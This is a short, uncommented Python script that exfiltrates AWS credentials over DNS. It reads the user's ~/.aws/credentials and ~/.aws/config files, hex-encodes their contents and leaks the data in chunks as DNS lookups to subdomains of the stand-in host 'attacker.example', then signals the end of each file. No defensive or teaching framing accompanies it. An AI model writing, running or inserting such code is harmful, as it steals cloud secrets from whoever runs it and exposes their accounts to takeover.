import socket
from pathlib import Path

ZONE = "attacker.example"


def labels(blob, width=60):
    text = blob.hex()
    for i in range(0, len(text), width):
        yield i // width, text[i:i + width]


def lookup(name):
    try:
        socket.getaddrinfo(name, None)
    except OSError:
        pass


def main():
    home = Path.home()
    for rel in (".aws/credentials", ".aws/config"):
        item = home / rel
        if item.is_file():
            tag = item.name[:4]
            for n, chunk in labels(item.read_bytes()):
                lookup(f"{chunk}.{n}.{tag}.{ZONE}")
            lookup(f"end.{tag}.{ZONE}")


if __name__ == "__main__":
    main()
